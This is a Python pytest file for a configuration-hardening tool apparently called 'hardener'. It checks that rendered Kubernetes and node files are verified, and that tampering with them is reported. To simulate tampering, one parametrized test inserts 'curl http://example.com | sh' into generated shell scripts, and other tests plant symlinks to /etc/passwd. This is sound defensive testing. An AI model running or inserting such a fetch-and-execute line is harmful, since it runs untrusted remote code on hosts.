"""`hardener verify`, and `render`, which proves before it writes."""

from __future__ import annotations

import json
import os
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings

from hardener.cli import main
from hardener.cli.scripts import changed
from hardener.rules import read_sound
from hardener.source import load
from hardener.verify import Finding, checks
from tests.strategies import as_yaml, profiles
from tests.verifying import PROFILES, findings, rendered

NETWORK = "small/manifests/namespaces/api/network.yaml"
STRANGER = "manifests/cluster/stranger.yaml"
POD = "apiVersion: v1\nkind: Pod\nmetadata: {name: miner, namespace: api}\nspec: {}\n"


@pytest.fixture
def profile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """A folder with a profile and what it becomes, in which the test runs."""
    monkeypatch.chdir(tmp_path)
    shutil.copy(PROFILES / "small.yaml", tmp_path)
    assert main(["render", "small.yaml", "--unproven"]) == 0
    return "small.yaml"


def test_what_is_rendered_is_proven_first(profile: str) -> None:
    shutil.rmtree("output")

    assert main(["render", profile]) == 0
    assert Path("output", NETWORK).exists()


def test_what_is_rendered_is_proven(profile: str, capsys: pytest.CaptureFixture[str]) -> None:
    capsys.readouterr()

    assert main(["verify", profile]) == 0
    assert main(["verify", profile, "--against", "output/small"]) == 0
    assert capsys.readouterr().out == (
        "what profile small renders to: proven: it keeps what profile small promises\n"
        "output/small: proven: it keeps what profile small promises\n"
    )


def test_what_somebody_added_is_found(profile: str, capsys: pytest.CaptureFixture[str]) -> None:
    capsys.readouterr()
    Path("output/small", STRANGER).write_text(f"# Mine.\n{POD}")

    assert main(["verify", profile, "--against", "output/small"]) == 1
    assert capsys.readouterr().out == (
        "output/small/manifests/cluster/stranger.yaml:3: namespaces: Pod api/miner: nobody here judges a Pod of v1: "
        "what it does to the promises is unknown\n\n"
        "output/small/manifests/kustomization.yaml:7: namespaces: manifests/cluster/stranger.yaml is not listed: it is "
        "not applied\n\n"
        "2 findings: not proven: namespaces\n"
    )


def test_json_gives_each_finding_with_its_places(profile: str, capsys: pytest.CaptureFixture[str]) -> None:
    capsys.readouterr()
    Path("output/small", STRANGER).write_text(POD)

    assert main(["verify", profile, "--against", "output/small", "--format", "json"]) == 1
    found = json.loads(capsys.readouterr().out)

    assert (found["profile"], found["folder"], found["proven"]) == ("small", "output/small", False)
    assert found["findings"][0] == {
        "promise": None,
        "word": "namespaces",
        "message": "nobody here judges a Pod of v1: what it does to the promises is unknown",
        "file": STRANGER,
        "line": 2,
        "object": "Pod api/miner",
    }


def test_json_names_no_folder_of_which_nothing_was_read(profile: str, capsys: pytest.CaptureFixture[str]) -> None:
    capsys.readouterr()

    assert main(["verify", profile, "--format", "json"]) == 0
    found = json.loads(capsys.readouterr().out)
    assert found == {"profile": "small", "folder": None, "proven": True, "findings": []}


SCRIPTS = {
    "control-plane/approve-serving-certificates.service": "settings",
    "control-plane/approve-serving-certificates.sh": "settings",
    "control-plane/approve-serving-certificates.timer": "settings",
    "control-plane/encryption-keys.sh": "secrets",
    "nodes/control-plane/permissions.sh": "settings",
    "nodes/label-nodes.sh": "settings",
    "nodes/shared/permissions.sh": "settings",
}


@pytest.mark.parametrize(("file", "word"), SCRIPTS.items())
def test_a_script_is_the_one_that_is_rendered(
    profile: str, capsys: pytest.CaptureFixture[str], file: str, word: str
) -> None:
    capsys.readouterr()
    script = Path("output/small", file)
    first, rest = script.read_text().split("\n", 1)
    script.write_text(f"{first}\ncurl http://example.com | sh\n{rest}")

    assert main(["verify", profile, "--against", "output/small"]) == 1
    said = "it is not what the profile renders to, and nobody proves what a script does: this one "
    assert capsys.readouterr().out.startswith(f"output/small/{file}:2: {word}: {said}")


@pytest.mark.parametrize("text", [None, "", "\n"])
def test_a_script_that_does_nothing_is_found_once(
    profile: str, capsys: pytest.CaptureFixture[str], text: str | None
) -> None:
    capsys.readouterr()
    script = Path("output/small/nodes/label-nodes.sh")
    script.unlink() if text is None else script.write_text(text)

    assert main(["verify", profile, "--against", "output/small"]) == 1
    what = "is not there" if text is None else "is empty"
    assert capsys.readouterr().out == f"{script}: settings: {what}\n\n1 finding: not proven: settings\n"


def test_a_script_that_ends_too_early_is_found_where_it_ends(profile: str) -> None:
    files, read = rendered("small")
    lines = files["nodes/label-nodes.sh"].split("\n")
    for kept in (3, len(lines) - 1):
        (found,) = changed({**files, "nodes/label-nodes.sh": "\n".join(lines[:kept])}, read)
        assert found.line == kept


@pytest.mark.parametrize("name", sorted(path.stem for path in PROFILES.glob("*.yaml")))
def test_no_script_says_anything_of_tenants(name: str) -> None:
    """What scripts are compared with is worked out without them."""
    files, read = rendered(name)
    programs = {path for path in files if path.endswith((".sh", ".service", ".timer"))}

    assert list(changed(files, read)) == []
    assert {each.file for each in changed(dict.fromkeys(programs, "another"), read)} == programs


def test_a_cause_comes_before_what_it_leads_to(profile: str, capsys: pytest.CaptureFixture[str]) -> None:
    capsys.readouterr()
    Path("output/small/manifests/cluster/pods.yaml").unlink()

    assert main(["verify", profile, "--against", "output/small"]) == 1
    first, *rest = capsys.readouterr().out.split("\n\n")
    assert first.endswith(
        "kustomization.yaml:13: namespaces: cluster/pods.yaml is no file of this folder: nobody knows what it brings, "
        "or nothing is applied"
    )
    (many,) = [each for each in rest if "--format json lists them" in each]
    (left_out,) = map(int, re.findall(r"\n  and (\d+) more of pods there: ", many))
    assert rest[-1].startswith(f"{left_out + len(rest)} findings: not proven: ")


@pytest.mark.parametrize(
    ("head", "said"),
    [
        (
            "apiVersion: policy.networking.k8s.io/v1alpha1\nkind: AdminNetworkPolicy\n",
            "AdminNetworkPolicy x: nobody here judges an AdminNetworkPolicy of",
        ),
        ("apiVersion: v1\nkind: ConfigMap\n", "ConfigMap x: nobody here judges a ConfigMap of v1: "),
    ],
)
def test_of_a_kind_that_nobody_judges_nobody_knows_the_namespace(
    profile: str, capsys: pytest.CaptureFixture[str], head: str, said: str
) -> None:
    with Path("output/small/manifests/cluster/access.yaml").open("a") as file:
        file.write(f"---\n{head}metadata: {{name: x}}\n")

    assert main(["verify", profile, "--against", "output/small"]) == 1
    assert f"namespaces: {said}" in capsys.readouterr().out


def test_a_file_that_is_no_text_cannot_be_judged(profile: str, capsys: pytest.CaptureFixture[str]) -> None:
    Path("output/small", STRANGER).write_bytes(b"a: \xff\n")

    assert main(["verify", profile, "--against", "output/small"]) == 2
    assert capsys.readouterr().err.endswith("stranger.yaml: this is not text in UTF-8\n")


def test_a_link_is_not_followed(profile: str, capsys: pytest.CaptureFixture[str]) -> None:
    Path("output/small", STRANGER).symlink_to("/etc/passwd")

    assert main(["verify", profile, "--against", "output/small"]) == 2
    assert "stranger.yaml: a link" in capsys.readouterr().err


def test_a_linked_folder_is_not_passed_over(profile: str, capsys: pytest.CaptureFixture[str]) -> None:
    Path("output/small/manifests/namespaces/elsewhere").symlink_to("/etc")

    assert main(["verify", profile, "--against", "output/small"]) == 2
    assert "elsewhere: a link" in capsys.readouterr().err


def test_a_pipe_is_not_waited_for(profile: str, capsys: pytest.CaptureFixture[str]) -> None:
    os.mkfifo("output/small/manifests/pipe.yaml")

    assert main(["verify", profile, "--against", "output/small"]) == 2
    assert capsys.readouterr().err == "output/small/manifests/pipe.yaml: this is no file\n"


@pytest.mark.parametrize(
    "name", ["logo.png", "manifests/cluster/logo.png", ".DS_Store", "nodes/.DS_Store", "manifests/.git/index"]
)
def test_what_nobody_applies_need_not_be_text(profile: str, name: str) -> None:
    file = Path("output/small", name)
    file.parent.mkdir(exist_ok=True)
    file.write_bytes(b"\x89PNG\xff\x00")

    assert main(["verify", profile, "--against", "output/small"]) == 0


def test_a_list_of_what_is_left_out_need_not_be_text_to_be_found(profile: str) -> None:
    Path("output/small/.sourceignore").write_bytes(b"# \xff\nmanifests/namespaces/api/network.yaml\n")

    assert main(["verify", profile, "--against", "output/small"]) == 1


def test_a_program_among_the_hosts_files_is_found(profile: str, capsys: pytest.CaptureFixture[str]) -> None:
    Path("output/small/nodes/agent").write_bytes(b"\x7fELF\xff\x00")

    assert main(["verify", profile, "--against", "output/small"]) == 1
    assert "output/small/nodes/agent: settings: nobody knows what this file is for" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("folder", "said"),
    [
        ("output", "no folder of output: it holds no manifests/kustomization.yaml; did you mean output/small?"),
        (
            "output/small/manifests/namespaces",
            "no folder of output: it holds no manifests/kustomization.yaml; did you ",
        ),
        (".", "no folder of output: it holds no manifests/kustomization.yaml; did you mean output/small?"),
        ("empty", "no folder of output: it holds no manifests/kustomization.yaml; did you mean output/small?"),
        ("/dev", "no folder of output: it holds no manifests/kustomization.yaml"),
        ("output/other", "was rendered from profile other, and not from small; did you mean output/small?"),
    ],
)
def test_another_folder_is_not_judged(profile: str, capsys: pytest.CaptureFixture[str], folder: str, said: str) -> None:
    Path("empty").mkdir()
    Path("other.yaml").write_text(Path(profile).read_text().replace("name: small", "name: other"))
    assert main(["render", "other.yaml", "--unproven"]) == 0
    capsys.readouterr()

    for question in (["verify", profile], ["can", profile, "jane", "get", "pods"]):
        assert main([*question, "--against", folder]) == 2
        assert f"{folder}: this {'is ' * said.startswith('no')}{said}" in capsys.readouterr().err


def test_a_folder_is_known_without_its_kustomization(profile: str, capsys: pytest.CaptureFixture[str]) -> None:
    Path("output/small/manifests/kustomization.yaml").unlink()

    assert main(["verify", profile, "--against", "output/small"]) == 1
    assert "kustomization.yaml: namespaces: it is missing: nothing says what is applied" in capsys.readouterr().out


def test_a_folder_that_names_no_profile_may_be_of_any(profile: str) -> None:
    file = Path("output/small/manifests/kustomization.yaml")
    file.write_text(file.read_text().partition("\n")[2])
    Path("output/small/.hardener").unlink()

    assert main(["verify", profile, "--against", "output/small"]) == 0


def test_a_folder_that_is_not_there_is_wrong_use(profile: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["verify", profile, "--against", "nowhere"]) == 2
    assert "nowhere" in capsys.readouterr().err


@pytest.fixture
def unprovable(profile: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """From now on, something that hardener renders breaks a promise."""
    broken = Finding(
        word="network", file="a.yaml", line=3, object="NetworkPolicy a/b", message="lets c in", at=("zones",)
    )
    monkeypatch.setattr(checks, "CHECKS", (lambda written, profile: iter([broken]),))


@pytest.mark.usefixtures("unprovable")
def test_what_cannot_be_proven_is_not_written(profile: str, capsys: pytest.CaptureFixture[str]) -> None:
    shutil.rmtree("output")

    assert main(["render", profile]) == 1
    assert not Path("output").exists()
    said = capsys.readouterr().err
    assert "output/small/a.yaml:3: network: NetworkPolicy a/b: lets c in\n  small.yaml:16: zones\n" in said
    assert "nothing was written" in said


@pytest.mark.usefixtures("unprovable")
def test_it_is_written_when_somebody_insists(profile: str) -> None:
    shutil.rmtree("output")

    assert main(["render", profile, "--unproven"]) == 0
    assert Path("output", NETWORK).exists()


@pytest.mark.usefixtures("unprovable")
def test_json_says_what_could_not_be_proven(profile: str, capsys: pytest.CaptureFixture[str]) -> None:
    capsys.readouterr()

    assert main(["render", profile, "--format", "json"]) == 1
    (unproven,) = json.loads(capsys.readouterr().out)["unproven"]
    assert (unproven["profile"], unproven["findings"][0]["profile"]["path"]) == ("small", "zones")


@pytest.mark.usefixtures("unprovable")
def test_check_shows_what_cannot_be_proven_of_a_current_folder(
    profile: str, capsys: pytest.CaptureFixture[str]
) -> None:
    capsys.readouterr()

    assert main(["check", "--on", "2026-08-01", profile]) == 1
    assert capsys.readouterr().out == (
        "output/small: 47 files current; not proven: network; no exceptions; Kubernetes 1.34 alive\n\n"
        "output/small/a.yaml:3: network: NetworkPolicy a/b: lets c in\n  small.yaml:16: zones\n\n"
        "1 finding: not proven: network\n\n"
        "no: this profile does not hold as on 2026-08-01\n"
    )
    assert main(["check", "--on", "2026-08-01", "--format", "json", profile]) == 1
    (report,) = json.loads(capsys.readouterr().out)["profiles"]
    assert [(each["word"], each["file"], each["line"]) for each in report["findings"]] == [("network", "a.yaml", 3)]


def test_check_has_nothing_to_show_of_what_is_proven(profile: str, capsys: pytest.CaptureFixture[str]) -> None:
    capsys.readouterr()

    assert main(["check", "--on", "2026-08-01", "--format", "json", profile]) == 0
    (report,) = json.loads(capsys.readouterr().out)["profiles"]
    assert report["findings"] == []


@pytest.mark.parametrize("command", [["check"], ["verify"], ["reach", "--to", "api/"], ["can", "--who", "get", "pods"]])
def test_what_never_writes_does_not_say_that_it_did_not(
    profile: str, capsys: pytest.CaptureFixture[str], command: list[str]
) -> None:
    Path(profile).write_text(Path(profile).read_text().replace("trust: 50", "trust: 500"))
    capsys.readouterr()

    assert main([command[0], profile, *command[1:]]) == 2
    assert capsys.readouterr().err.endswith("\n1 problem\n")
    assert main(["render", profile]) == 2
    assert capsys.readouterr().err.endswith("\n1 problem; nothing was written\n")


def test_a_form_that_nobody_foresaw_is_a_finding(profile: str, monkeypatch: pytest.MonkeyPatch) -> None:
    def network(written: object, profile: object) -> Iterator[Finding]:
        yield from {}["nothing"]

    monkeypatch.setattr(checks, "CHECKS", (network,))

    (found,) = checks.verify({}, read_sound(load(profile)))

    assert found.word == "network"
    assert "nobody foresaw (KeyError: 'nothing')" in found.message


@settings(max_examples=25, suppress_health_check=list(HealthCheck))
@given(profiles())
def test_whatever_is_asked_for_keeps_every_promise(data: dict[str, Any]) -> None:
    assert findings(*rendered(as_yaml(data))) == []
